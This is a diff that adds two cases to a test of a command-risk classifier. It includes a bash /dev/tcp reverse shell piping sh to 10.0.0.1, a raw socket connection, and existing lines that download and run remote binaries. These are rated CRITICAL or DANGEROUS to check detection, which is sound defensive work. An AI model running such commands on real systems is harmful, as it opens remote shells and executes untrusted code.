@@ -92,6 +92,8 @@ SAFE, CAUTION, DANGEROUS, CRITICAL = Risk
         ("curl -O https://x.example/tool && ./tool", CRITICAL),
         ("sudo curl -L https://x.example/t -o /usr/local/bin/t", DANGEROUS),
         ("wget https://x.example/python && python x.py", SAFE),
+        ("exec 5<>/dev/tcp/10.0.0.1/1; sh <&5 >&5", CRITICAL),
+        ("exec 5<>/dev/tcp/example.com/80; echo x >&5; cat <&5", DANGEROUS),
     ],
 )
 def test_network(command: str, risk: Risk) -> None:
